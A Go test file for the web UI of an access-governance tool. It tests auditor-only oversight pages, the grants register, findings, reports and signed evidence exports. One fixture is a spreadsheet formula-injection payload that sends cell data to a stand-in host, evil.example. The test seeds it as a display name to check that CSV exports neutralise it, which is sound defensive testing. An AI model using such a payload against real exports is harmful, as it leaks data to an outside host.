package webui_test

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/syncd-dev/syncd/internal/access"
	"github.com/syncd-dev/syncd/internal/catalog"
	"github.com/syncd-dev/syncd/internal/evidence"
	"github.com/syncd-dev/syncd/internal/identity"
	"github.com/syncd-dev/syncd/internal/policy"
	"github.com/syncd-dev/syncd/internal/review"
	"github.com/syncd-dev/syncd/internal/store"
	"github.com/syncd-dev/syncd/internal/webui"
)

// hostileName is a display name a spreadsheet would run as a formula.
const hostileName = `=HYPERLINK("http://evil.example/?x="&A1,"click")`

// oversightEnv is the seeded organisation plus hank (terminated, with a
// hostile display name), a catalog whose payroll and payments items
// conflict (separation of duties), and these grants:
//
//	rita  payroll   active, requested by mike, approved by mike, ends in 10 days
//	rita  payments  active, imported (conflicts with payroll)
//	hank  wiki      active birthright of a leaver
//	sam   wiki      revoked 5 days ago
//	ron   wiki      ended 60 days ago
//	sam   payroll   active, auto-approved, ends in 90 days
type oversightEnv struct {
	*env
	key    ed25519.PrivateKey
	grants map[string]string // "holder item" → grant id
}

func newOversightEnv(t testing.TB, opts ...func(*env, *webui.Server)) *oversightEnv {
	t.Helper()
	_, key, _ := ed25519.GenerateKey(nil)
	o := &oversightEnv{key: key, grants: map[string]string{}}
	withOversightCatalog := func(e *env, ui *webui.Server) {
		cat := &catalog.Catalog{Items: []catalog.Item{
			{ItemSpec: policy.ItemSpec{ID: "payroll", Name: "Payroll admin", Kind: "app-role", Risk: policy.RiskHigh, OwnerID: e.ids["carol"],
				SoDConflicts: []string{"payments"}, MaxDuration: 90 * 24 * time.Hour}, Fulfillment: catalog.Fulfillment{Type: "manual"}},
			{ItemSpec: policy.ItemSpec{ID: "payments", Name: "Payments approver", Kind: "app-role", Risk: policy.RiskCritical, OwnerID: e.ids["carol"],
				MaxDuration: 365 * 24 * time.Hour}, Fulfillment: catalog.Fulfillment{Type: "manual"}},
			{ItemSpec: policy.ItemSpec{ID: "wiki", Name: "Team wiki", Kind: "group", Risk: policy.RiskLow, OwnerID: e.ids["sam"],
				MaxDuration: 365 * 24 * time.Hour}, Fulfillment: catalog.Fulfillment{Type: "manual"}},
		}}
		svc, err := access.NewService(e.store, cat, map[string]access.Fulfiller{"manual": access.Manual{}}, nil)
		if err != nil {
			e.t.Fatal(err)
		}
		ui.Access, e.access = svc, svc
	}
	withEvidence := func(e *env, ui *webui.Server) {
		ui.Evidence = requestEvidence{storeEvidence{ex: &evidence.Exporter{Key: key, Generator: "test"}, st: e.store}}
	}
	all := append([]func(*env, *webui.Server){withOversightCatalog, withEvidence}, opts...)
	o.env = newEnvWith(t, true, []string{"hr"}, idpUsers, func(e *env, ctx context.Context) {
		e.seed(ctx)
		o.seedGrants(e, ctx)
	}, all...)
	return o
}

func (o *oversightEnv) seedGrants(e *env, ctx context.Context) {
	t := e.t
	svc, err := identity.New(identity.Config{Sources: map[string]identity.SourceRole{"hr": identity.RoleHR}}, e.store)
	if err != nil {
		t.Fatal(err)
	}
	res, err := svc.Apply(ctx, identity.Batch{Source: "hr", Changes: []identity.Change{{Record: identity.Record{ExternalID: "hank", Attributes: map[string]string{
		identity.AttrUserName: "hank", identity.AttrEmail: "hank@example.com", identity.AttrDisplayName: hostileName,
		identity.AttrDepartment: "Sales", identity.AttrStatus: "terminated", identity.AttrTitle: "Staff",
	}, Manager: &identity.ManagerRef{}}}}})
	if err != nil || len(res.Applied) != 1 {
		t.Fatalf("seed hank: %v %+v", err, res)
	}
	e.ids["hank"] = res.Applied[0].PersonID
	now := time.Now().UTC()
	req, err := e.store.CreateRequest(ctx, store.AccessRequest{ItemID: "payroll", RequesterID: e.ids["mike"], BeneficiaryID: e.ids["rita"],
		Justification: "month end close", Environment: "prod", Start: now.AddDate(0, 0, -10), End: now.AddDate(0, 0, 10), State: store.RequestApproved})
	if err != nil {
		t.Fatal(err)
	}
	ended, revoked := now.AddDate(0, 0, -60), now.AddDate(0, 0, -5)
	for _, g := range []store.Grant{
		{ItemID: "payroll", HolderID: e.ids["rita"], RequestID: req.ID, Assurance: store.AssuranceApproved, ApproverIDs: []string{e.ids["mike"]},
			Start: now.AddDate(0, 0, -10), End: now.AddDate(0, 0, 10), State: store.GrantActive},
		{ItemID: "payments", HolderID: e.ids["rita"], Assurance: store.AssuranceImported, Start: now.AddDate(-1, 0, 0), End: now.AddDate(0, 0, 200), State: store.GrantActive},
		{ItemID: "wiki", HolderID: e.ids["hank"], Assurance: store.AssuranceBirthright, Start: now.AddDate(-1, 0, 0), End: now.AddDate(0, 0, 100), State: store.GrantActive},
		{ItemID: "wiki", HolderID: e.ids["sam"], Assurance: store.AssuranceBirthright, Start: now.AddDate(-1, 0, 0), End: now.AddDate(0, 0, 100), State: store.GrantRevoked,
			EndedAt: &revoked, EndedBy: "person:" + e.ids["carol"], EndReason: "revoked in review"},
		{ItemID: "wiki", HolderID: e.ids["ron"], Assurance: store.AssuranceBirthright, Start: now.AddDate(-1, 0, 0), End: now.AddDate(0, 0, -60), State: store.GrantEnded,
			EndedAt: &ended, EndReason: "expired"},
		{ItemID: "payroll", HolderID: e.ids["sam"], Assurance: store.AssuranceAutoApproved, Start: now.AddDate(0, 0, -1), End: now.AddDate(0, 0, 90), State: store.GrantActive},
	} {
		got, err := e.store.CreateGrant(ctx, g)
		if err != nil {
			t.Fatal(err)
		}
		holder := map[string]string{e.ids["rita"]: "rita", e.ids["hank"]: "hank", e.ids["sam"]: "sam", e.ids["ron"]: "ron"}[g.HolderID]
		o.grants[holder+" "+g.ItemID] = got.ID
	}
}

// requestEvidence is storeEvidence that also writes the access-request
// workbook, as cmd/syncd's exporter does.
type requestEvidence struct{ storeEvidence }

func (s requestEvidence) ExportRequests(ctx context.Context, from, to time.Time, w io.Writer) error {
	return s.ex.ExportRequests(ctx, s.st, from, to, w)
}

// withCampaign serves access reviews with one campaign started an hour
// ago; its id goes to *id.
func withCampaign(t *testing.T, id *string) func(*env, *webui.Server) {
	return func(e *env, ui *webui.Server) {
		svc, err := review.NewService(e.store, []review.Definition{{Name: "q4-payroll", Kind: "grants",
			Stages: []review.Stage{{Name: "managers", Reviewers: []string{review.ReviewerManager}}}}})
		if err != nil {
			t.Fatal(err)
		}
		ui.Reviews = svc
		at := time.Now().UTC().Add(-time.Hour)
		c, err := e.store.CreateCampaign(t.Context(), store.Campaign{Definition: "q4-payroll", Period: "2026-Q4", Kind: store.CampaignGrants, State: store.CampaignActive,
			Stages: 1, StartedBy: "schedule", StartedAt: at, StageDueAt: at.Add(48 * time.Hour), DueAt: at.Add(48 * time.Hour)})
		if err != nil {
			t.Fatal(err)
		}
		*id = c.ID
	}
}

var regexpHref = regexp.MustCompile(`href="([^"]+)"`)

// oversightPaths are the pages for auditors and admins only.
var oversightPaths = []string{"/grants", "/grants?format=csv", "/findings", "/findings?format=csv", "/reports", "/evidence",
	"/evidence/requests.xlsx?from=2026-01-01&to=2027-01-01"}

// TestOversightPagesAreForAuditorsAndAdmins: the auditor and the admin
// open every oversight page and find it in the navigation; a manager, a
// catalog owner's colleague and an employee get the not-found page, as
// for a page that does not exist, and no navigation entry.
func TestOversightPagesAreForAuditorsAndAdmins(t *testing.T) {
	o := newOversightEnv(t)
	for _, user := range []string{"alice", "carol"} {
		b := o.as(user)
		home := b.Get(o.base + "/").Body
		for _, nav := range []string{`href="/findings" id="home-findings"`, `id="nav-grants"`, `id="nav-findings"`, `id="nav-reports"`, `id="nav-evidence"`} {
			if !strings.Contains(home, nav) {
				t.Errorf("%s: navigation lacks %s", user, nav)
			}
		}
		for _, p := range oversightPaths {
			if resp := b.Get(o.base + p); resp.StatusCode != http.StatusOK {
				t.Errorf("%s %s: %d %.300s", user, p, resp.StatusCode, resp.Body)
			}
		}
	}
	for _, user := range []string{"mike", "sam", "rita"} {
		b := o.as(user)
		if home := b.Get(o.base + "/").Body; strings.Contains(home, `id="nav-grants"`) || strings.Contains(home, `id="nav-reports"`) {
			t.Errorf("%s: navigation offers an oversight page", user)
		}
		for _, p := range oversightPaths {
			resp := b.Get(o.base + p)
			if resp.StatusCode != http.StatusNotFound || strings.Contains(resp.Body, "Payroll admin") || strings.HasPrefix(resp.Body, "PK") {
				t.Errorf("%s %s: %d %.200s", user, p, resp.StatusCode, resp.Body)
			}
		}
	}
}

// TestGrantsRegister: every grant with holder, item, risk, state, how
// obtained, requested and approved by (names, never ids); filters by
// state, item and holder; sorting; "N–M of T" paging; a holder nobody
// has comes back as a form error with the input kept.
func TestGrantsRegister(t *testing.T) {
	o := newOversightEnv(t)
	alice := o.as("alice")
	page := alice.Get(o.base + "/grants")
	if page.StatusCode != http.StatusOK {
		t.Fatalf("grants: %d", page.StatusCode)
	}
	row := func(body, key string) string {
		t.Helper()
		id := o.grants[key]
		i := strings.Index(body, `id="grant-`+id+`"`)
		if i < 0 {
			t.Fatalf("no row for %s", key)
		}
		return body[i : i+strings.Index(body[i:], "</tr>")]
	}
	rita := row(page.Body, "rita payroll")
	for _, want := range []string{"Rita Report", "Payroll admin", "risk-high", "badge-grant-active", "✓ active", "Requested and approved",
		">Mike Manager</a>", "Mike Manager</td>"} {
		if !strings.Contains(rita, want) {
			t.Errorf("rita's payroll row lacks %q: %s", want, rita)
		}
	}
	if s := row(page.Body, "sam wiki"); !strings.Contains(s, "badge-grant-revoked") || !strings.Contains(s, "✗ revoked") || !strings.Contains(s, "revoked in review") {
		t.Errorf("sam's revoked row: %s", s)
	}
	if s := row(page.Body, "sam payroll"); !strings.Contains(s, "policy (automatic)") {
		t.Errorf("auto-approved row: %s", s)
	}
	if !strings.Contains(page.Body, "1–6 of 6") {
		t.Errorf("no range 1–6 of 6")
	}
	noIDsShown(t, "grants register", page.Body)

	count := func(path string) int {
		t.Helper()
		resp := alice.Get(o.base + path)
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d %.300s", path, resp.StatusCode, resp.Body)
		}
		return strings.Count(resp.Body, `<tr id="grant-`)
	}
	for path, want := range map[string]int{
		"/grants?state=active":                  4,
		"/grants?state=revoked":                 1,
		"/grants?item=wiki":                     3,
		"/grants?holder=rita":                   2,
		"/grants?holder=rita%40example.com":     2,
		"/grants?state=active&item=payroll":     2,
		"/grants?expiring=30":                   1,
		"/grants?state=active&leavers=1":        1,
		"/grants?state=active&sod=1":            2,
		"/grants?state=revoked&ended=30":        1,
		"/grants?ended=30":                      1, // ron's ended 60 days ago
		"/grants?state=active&item=payments":    1,
		"/grants?state=active&holder=ron":       0,
		"/grants?state=ended&holder=ron&item=x": 0,
	} {
		if got := count(path); got != want {
			t.Errorf("%s: %d rows, want %d", path, got, want)
		}
	}
	// Sorted by risk, highest first: payments (critical) leads.
	sorted := alice.Get(o.base + "/grants?sort=risk&dir=desc").Body
	if i, j := strings.Index(sorted, o.grants["rita payments"]), strings.Index(sorted, o.grants["hank wiki"]); i < 0 || j < 0 || i > j {
		t.Errorf("risk descending does not put payments before the wiki")
	}
	// Paging: 25 more active grants make two pages of 50 with 31.
	ctx := t.Context()
	for i := range 25 {
		if _, err := o.store.CreateGrant(ctx, store.Grant{ItemID: "wiki", HolderID: o.ids["ron"], Assurance: store.AssuranceBirthright,
			Start: time.Now().AddDate(0, 0, -i-1), End: time.Now().AddDate(0, 0, 50+i), State: store.GrantActive}); err != nil {
			t.Fatal(err)
		}
	}
	for i := range 25 {
		if _, err := o.store.CreateGrant(ctx, store.Grant{ItemID: "payments", HolderID: o.ids["mike"], Assurance: store.AssuranceImported,
			Start: time.Now().AddDate(0, 0, -i-1), End: time.Now().AddDate(0, 0, 80+i), State: store.GrantEnded}); err != nil {
			t.Fatal(err)
		}
	}
	first := alice.Get(o.base + "/grants")
	if !strings.Contains(first.Body, "1–50 of 56") || strings.Count(first.Body, `<tr id="grant-`) != 50 {
		t.Fatalf("first page: range or rows wrong")
	}
	next := regexpNext.FindStringSubmatch(first.Body)
	if next == nil {
		t.Fatal("no next page link")
	}
	second := alice.Get(o.base + strings.ReplaceAll(next[1], "&amp;", "&"))
	if !strings.Contains(second.Body, "51–56 of 56") || strings.Count(second.Body, `<tr id="grant-`) != 6 || !strings.Contains(second.Body, `rel="prev"`) {
		t.Fatalf("second page: range, rows or previous link wrong")
	}

	// A holder nobody has: a form error by the field, the input kept.
	bad := alice.Get(o.base + "/grants?holder=nobody%40example.com&state=active")
	if bad.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(bad.Body, `id="err-holder"`) || !strings.Contains(bad.Body, `value="nobody@example.com"`) {
		t.Fatalf("unknown holder: %d %.500s", bad.StatusCode, bad.Body)
	}
	if bad := alice.Get(o.base + "/grants?state=weird"); bad.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(bad.Body, `id="err-state"`) {
		t.Fatalf("unknown state: %d", bad.StatusCode)
	}
}

// TestOversightCSVsAreFormulaSafe: a holder or owner named like a
// formula is exported with a leading apostrophe in every oversight CSV,
// and the register's CSV keeps the page's filter and order.
func TestOversightCSVsAreFormulaSafe(t *testing.T) {
	o := newOversightEnv(t)
	// hank also owns an NHI, so the findings CSV names him (owner inactive).
	if _, err := o.store.CreateNHI(t.Context(), store.NHI{Kind: store.KindServiceAccount, Name: "svc-hank", Source: "ldap", Environment: "prod", OwnerID: o.ids["hank"]}); err != nil {
		t.Fatal(err)
	}
	alice := o.as("alice")
	grants := readCSVFrom(t, alice.Get(o.base+"/grants?format=csv&sort=holder"))
	if len(grants) != 7 || grants[0][0] != "holder" || grants[0][7] != "approved by" {
		t.Fatalf("grants CSV: %q", grants)
	}
	var sawHank, sawRita bool
	for _, r := range grants[1:] {
		switch {
		case strings.Contains(r[0], "HYPERLINK"):
			sawHank = true
			if r[0] != "'"+hostileName || r[1] != "terminated" || r[2] != "Team wiki" {
				t.Errorf("hank's row not neutralised: %q", r)
			}
		case r[0] == "Rita Report" && r[2] == "Payroll admin":
			sawRita = true
			if r[3] != "high" || r[4] != "active" || r[6] != "Mike Manager" || r[7] != "Mike Manager" {
				t.Errorf("rita's row: %q", r)
			}
		}
	}
	if !sawHank || !sawRita {
		t.Fatalf("grants CSV lacks rows: %q", grants)
	}
	leavers := readCSVFrom(t, alice.Get(o.base+"/grants?state=active&leavers=1&format=csv"))
	if len(leavers) != 2 || leavers[1][0] != "'"+hostileName {
		t.Fatalf("leavers CSV: %q", leavers)
	}
	findings := readCSVFrom(t, alice.Get(o.base+"/findings?rule=owner-inactive&format=csv"))
	var owners []string
	for _, r := range findings[1:] {
		owners = append(owners, r[2])
		if strings.Contains(r[2], "HYPERLINK") && r[2] != "'"+hostileName {
			t.Errorf("findings CSV owner not neutralised: %q", r)
		}
	}
	if len(findings) != 3 || findings[0][0] != "rule" { // terry's and hank's
		t.Fatalf("findings CSV: %q", findings)
	}
	if !strings.Contains(strings.Join(owners, "|"), "'"+hostileName) || !strings.Contains(strings.Join(owners, "|"), "Terry Gone") {
		t.Fatalf("findings CSV owners: %q", owners)
	}
}

// TestFindingsList: open findings with rule, NHI and owner names and
// age; filters by rule and state; sorting; an unknown rule is a form
// error.
func TestFindingsList(t *testing.T) {
	o := newOversightEnv(t)
	carol := o.as("carol")
	page := carol.Get(o.base + "/findings")
	if page.StatusCode != http.StatusOK {
		t.Fatalf("findings: %d", page.StatusCode)
	}
	for _, want := range []string{"svc-orphan", "svc-terry", "Terry Gone", "svc-apollo", "project apollo", "no-owner", "owner-inactive", "project-ended",
		"● open", "1–4 of 4", `class="csv"`} {
		if !strings.Contains(page.Body, want) {
			t.Errorf("findings page lacks %q", want)
		}
	}
	noIDsShown(t, "findings", page.Body)
	if n := strings.Count(carol.Get(o.base+"/findings?rule=no-owner").Body, `<tr id="finding-`); n != 2 {
		t.Errorf("no-owner: %d rows, want 2", n)
	}
	if n := strings.Count(carol.Get(o.base+"/findings?state=resolved").Body, `<tr id="finding-`); n != 0 {
		t.Errorf("resolved: %d rows, want 0", n)
	}
	sorted := carol.Get(o.base + "/findings?sort=nhi").Body
	if i, j := strings.Index(sorted, ">svc-apollo<"), strings.Index(sorted, ">svc-terry<"); i < 0 || j < 0 || i > j {
		t.Errorf("sorted by identity: apollo should come before terry")
	}
	if bad := carol.Get(o.base + "/findings?rule=bogus"); bad.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(bad.Body, `id="err-rule"`) {
		t.Errorf("unknown rule: %d", bad.StatusCode)
	}
}

// TestReportsCountWhatTheirListsShow: every number on the reports page
// equals the rows of the list it links to and of that list's CSV.
func TestReportsCountWhatTheirListsShow(t *testing.T) {
	o := newOversightEnv(t)
	alice := o.as("alice")
	page := alice.Get(o.base + "/reports")
	if page.StatusCode != http.StatusOK {
		t.Fatalf("reports: %d", page.StatusCode)
	}
	want := map[string]int{"leavers": 1, "expiring": 1, "sod": 2, "revoked": 1,
		"findings-no-owner": 2, "findings-owner-inactive": 1, "findings-project-ended": 1, "findings-unused": 0, "findings-all": 4}
	for id, n := range want {
		i := strings.Index(page.Body, `<tr id="report-`+id+`">`)
		if i < 0 {
			t.Errorf("no report line %s", id)
			continue
		}
		line := page.Body[i : i+strings.Index(page.Body[i:], "</tr>")]
		link := regexpHref.FindStringSubmatch(line)
		csvLink := regexpCSV.FindStringSubmatch(line)
		if link == nil || csvLink == nil {
			t.Errorf("%s: no list or CSV link: %s", id, line)
			continue
		}
		if !strings.Contains(line, ">"+itoa(int64(n))+"<") {
			t.Errorf("%s: count is not %d: %s", id, n, line)
		}
		list := alice.Get(o.base + strings.ReplaceAll(link[1], "&amp;", "&")).Body
		rows := strings.Count(list, `<tr id="grant-`) + strings.Count(list, `<tr id="finding-`)
		if rows != n {
			t.Errorf("%s: the list shows %d rows, the report says %d", id, rows, n)
		}
		if recs := readCSVFrom(t, alice.Get(o.base+strings.ReplaceAll(csvLink[1], "&amp;", "&"))); len(recs)-1 != n {
			t.Errorf("%s: the CSV has %d rows, the report says %d", id, len(recs)-1, n)
		}
	}
	noIDsShown(t, "reports", page.Body)
}

// TestEvidencePage: campaigns with their workbook links, the verify
// command in words, and the access-request workbook of a period as an
// uncached attachment that verifies; wrong dates come back as form
// errors with the input kept.
func TestEvidencePage(t *testing.T) {
	var campaignID string
	o := newOversightEnv(t, withCampaign(t, &campaignID))
	alice := o.as("alice")
	page := alice.Get(o.base + "/evidence")
	link := "/campaigns/" + campaignID + "/evidence.xlsx"
	if !strings.Contains(page.Body, "syncd evidence verify") || !strings.Contains(page.Body, `id="requests-evidence-form"`) ||
		!strings.Contains(page.Body, `href="`+link+`"`) || !strings.Contains(page.Body, ">q4-payroll</a>") {
		t.Fatalf("evidence page: %.3000s", page.Body)
	}
	noIDsShown(t, "evidence", page.Body)
	if resp := alice.Get(o.base + link); resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Body, "PK") {
		t.Fatalf("campaign workbook from the evidence page: %d", resp.StatusCode)
	}

	from, to := time.Now().UTC().AddDate(0, 0, -1).Format("2006-01-02"), time.Now().UTC().AddDate(0, 0, 1).Format("2006-01-02")
	resp := alice.Get(o.base + "/evidence/requests.xlsx?" + url.Values{"from": {from}, "to": {to}}.Encode())
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("download: %d %.300s", resp.StatusCode, resp.Body)
	}
	if cd := resp.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="requests-`) {
		t.Errorf("Content-Disposition %q", cd)
	}
	if cc := resp.Header.Get("Cache-Control"); cc != "no-store" {
		t.Errorf("Cache-Control %q", cc)
	}
	body := []byte(resp.Body)
	rep, err := evidence.Verify(t.Context(), bytes.NewReader(body), int64(len(body)), evidence.VerifyOptions{PublicKey: o.key.Public().(ed25519.PublicKey)})
	if err != nil || !rep.SignatureChecked {
		t.Fatalf("downloaded workbook: %+v %v", rep, err)
	}
	for _, tc := range []struct{ from, to, field string }{
		{"2026-02-30", to, "from"},
		{from, "tomorrow", "to"},
		{to, from, "to"},
	} {
		bad := alice.Get(o.base + "/evidence/requests.xlsx?" + url.Values{"from": {tc.from}, "to": {tc.to}}.Encode())
		if bad.StatusCode != http.StatusUnprocessableEntity || !strings.Contains(bad.Body, `id="err-`+tc.field+`"`) ||
			!strings.Contains(bad.Body, `value="`+tc.from+`"`) || !strings.Contains(bad.Body, `value="`+tc.to+`"`) {
			t.Errorf("from %s to %s: %d %.300s", tc.from, tc.to, bad.StatusCode, bad.Body)
		}
	}
}

// TestListsSayWhenTheyStopAtTheirCap: past the cap the register and the
// NHI list show the first rows and say the list is cut short; at the
// cap they do not.
func TestListsSayWhenTheyStopAtTheirCap(t *testing.T) {
	o := newOversightEnv(t)
	alice := o.as("alice")
	for _, tc := range []struct {
		grants, nhis int
		cut          bool
	}{{6, 6, false}, {5, 5, true}} {
		restore := webui.SetListCaps(tc.grants, tc.nhis)
		grants, nhis := alice.Get(o.base+"/grants").Body, alice.Get(o.base+"/nhis").Body
		restore()
		if got := strings.Contains(grants, `id="grants-truncated"`); got != tc.cut {
			t.Errorf("cap %d of 6 grants: notice %v", tc.grants, got)
		}
		if got := strings.Contains(nhis, `id="nhis-truncated"`); got != tc.cut {
			t.Errorf("cap %d of 6 NHIs: notice %v", tc.nhis, got)
		}
		if want := "1–" + itoa(int64(tc.grants)) + " of " + itoa(int64(tc.grants)); !strings.Contains(grants, want) {
			t.Errorf("cap %d: grants range is not %q", tc.grants, want)
		}
		if tc.cut && !strings.Contains(grants, "Only the first 5 matching grants") {
			t.Errorf("the notice does not name the cap")
		}
	}
}
